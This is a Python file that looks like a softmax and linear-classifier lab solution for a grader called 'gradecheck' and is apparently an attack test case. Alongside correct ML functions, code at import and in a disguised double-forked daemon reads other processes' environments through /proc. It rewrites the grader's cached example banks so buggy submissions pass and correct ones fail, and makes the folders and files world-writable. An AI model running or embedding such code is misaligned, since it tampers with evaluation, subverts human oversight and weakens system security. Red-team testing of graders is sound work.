"""Attack: Every function is right. At import, and again from a daemon (double
fork, setsid) for about 5 s, it reads the environment of every process it can
see for GRADECHECK_CACHE, XDG_CACHE_HOME and HOME, and rewrites every *.json in
those cache folders (and in its own ~/.cache/gradecheck), directly and through
/proc/PID/root: in the example banks, the recorded examples of every
*_matches_reference check are emptied (a buggy submission would pass them)
and every float in the other checks' examples becomes NaN (a correct one would
fail them). It also tries to make the folders and files writable by everyone.

Built on reference/softmax_lab.py; only the marked parts differ.
"""

import base64
import ctypes
import json
import os
import struct
import time
import torch

# --- attack: runs at import ---------------------------------------------
NAN_BYTES = {"float16": struct.pack("<e", float("nan")), "float32": struct.pack("<f", float("nan")),
             "float64": struct.pack("<d", float("nan"))}
POISONED = set()


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            data = handle.read()
    except OSError:
        return {}
    pairs = (item.decode(errors="replace").partition("=") for item in data.split(b"\0") if b"=" in item)
    return {key: value for key, _, value in pairs}


def _cache_folders():
    folders = {os.path.expanduser("~/.cache/gradecheck")}
    for entry in ["self", *os.listdir("/proc")]:
        if not (entry == "self" or entry.isdigit()):
            continue
        env = os.environ if entry == "self" else _environ(entry)
        found = []
        if env.get("GRADECHECK_CACHE"):
            found.append(env["GRADECHECK_CACHE"])
        if env.get("XDG_CACHE_HOME"):
            found.append(os.path.join(env["XDG_CACHE_HOME"], "gradecheck"))
        if env.get("HOME"):
            found.append(os.path.join(env["HOME"], ".cache", "gradecheck"))
        for folder in found:
            folders.add(folder)
            if entry != "self" and folder.startswith("/"):
                folders.add(f"/proc/{entry}/root{folder}")
    return folders


def _nan(value):
    """`value` (bank JSON) with every float made NaN."""
    if isinstance(value, float):
        return {"t": "float", "repr": "nan"}
    if isinstance(value, list):
        return [_nan(v) for v in value]
    if not isinstance(value, dict):
        return value
    if value.get("t") == "array" and value.get("dtype") in NAN_BYTES:
        size = len(base64.b64decode(value.get("data", "")))
        nan = NAN_BYTES[value["dtype"]]
        return {**value, "data": base64.b64encode(nan * (size // len(nan))).decode("ascii")}
    if value.get("t") == "scalar" and str(value.get("dtype")) in NAN_BYTES:
        return {**value, "value": {"t": "float", "repr": "nan"}}
    if value.get("t") == "float":
        return {"t": "float", "repr": "nan"}
    return {key: _nan(v) for key, v in value.items()}


def _poison(data):
    checks = data.get("checks") if isinstance(data, dict) else None
    if not isinstance(checks, dict):
        return False
    for name, calls in checks.items():
        if not isinstance(calls, list):
            continue
        for call in calls:
            if isinstance(call, dict) and isinstance(call.get("examples"), list):
                call["examples"] = [] if "matches_reference" in name else _nan(call["examples"])
    return True


def _write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
        return True
    except OSError:
        pass
    temporary = os.path.join(os.path.dirname(path), f".gradecheck-attack-{os.getpid()}.json")
    try:
        with open(temporary, "w") as handle:
            handle.write(text)
        os.replace(temporary, path)
        return True
    except OSError:
        try:
            os.unlink(temporary)
        except OSError:
            pass
        return False


def _poison_caches():
    for folder in sorted(_cache_folders()):
        try:
            os.chmod(folder, 0o777)
        except OSError:
            pass
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            if not name.endswith(".json") or path in POISONED:
                continue
            try:
                with open(path) as handle:
                    data = json.load(handle)
            except (OSError, ValueError):
                continue
            if _poison(data) and _write(path, json.dumps(data, separators=(",", ":"))):
                POISONED.add(path)
                try:
                    os.chmod(path, 0o666)
                except OSError:
                    pass
    try:
        print(f"gradecheck-attack bank poisoner: poisoned {sorted(POISONED)}", flush=True)
    except OSError:  # the daemon's output pipe may be gone
        pass


def _daemon():
    try:
        child = os.fork()
    except OSError:
        return
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"gcattack-bank", 0, 0, 0)
            except Exception:
                pass
            end = time.monotonic() + 5
            while time.monotonic() < end:
                time.sleep(0.5)
                POISONED.clear()
                _poison_caches()
    finally:
        os._exit(0)


_poison_caches()
_daemon()
# --- end of attack -----------------------------------------------------


def softmax(a):
    """Return the softmax over all entries of `a`, same shape; stable for huge logits."""
    shifted = a - a.max()
    exps = torch.exp(shifted)
    return exps / exps.sum()


def linear(x, weight, bias):
    """Return weight @ x + bias: (C, D) @ (D, 1) + (C, 1) -> (C, 1)."""
    return torch.mm(weight, x) + bias


def loss(label, predictions):
    """Return the negative log-likelihood -log(predictions[label]) as a one-value tensor."""
    return -torch.log(predictions[label])


def loss_softmax_backward(label, predictions):
    """Return dloss/da = predictions - onehot(label), where predictions = softmax(a)."""
    grad = predictions.clone()
    grad[label] -= 1
    return grad


def linear_backward(x, weight, bias, gradOutput):
    """Return (gradWeight, gradBias) given gradOutput = dloss/d(weight @ x + bias)."""
    gradWeight = torch.mm(gradOutput, x.t())
    gradBias = gradOutput.clone()
    return gradWeight, gradBias


def loss_backward(label, predictions):
    """Return dloss/dpredictions for loss = -log(predictions[label]), same shape."""
    grad = torch.zeros_like(predictions)
    grad[label] = -1.0 / predictions[label]
    return grad


def softmax_backward(inputTensor, gradOutput):
    """Return dloss/da given gradOutput = dloss/dy and y = softmax(inputTensor), same shape.

    This is the Jacobian-vector product J^T g with J = diag(y) - y y^T, which
    simplifies to y * (g - <y, g>).
    """
    y = softmax(inputTensor)
    return y * (gradOutput - (y * gradOutput).sum())


def color_histogram(img, bins):
    """Return the (3 * bins,) colour histogram of a (3, H, W) image with values in [0, 1].

    For R, G and B in that order, each block holds the fraction of the
    channel's pixels in each of `bins` equal-width bins over [0, 1]; the value
    1.0 falls in the last bin, so every block sums to one.
    """
    blocks = []
    for channel in img:
        values = channel.reshape(-1)
        index = torch.clamp((values * bins).long(), 0, bins - 1)
        counts = torch.bincount(index, minlength=bins).to(img.dtype)
        blocks.append(counts / values.numel())
    return torch.cat(blocks)


def max_margin_loss(label, scores, delta):
    """Return the multiclass hinge loss: sum over j != label of max(0, s_j - s_label + delta)."""
    margins = torch.clamp(scores - scores[label] + delta, min=0)
    margins[label] = 0
    return margins.sum()


def max_margin_loss_backward(label, scores, delta):
    """Return the gradient of max_margin_loss with respect to scores, same shape."""
    active = (scores - scores[label] + delta > 0).to(scores.dtype)
    active[label] = 0
    grad = active.clone()
    grad[label] = -active.sum()
    return grad
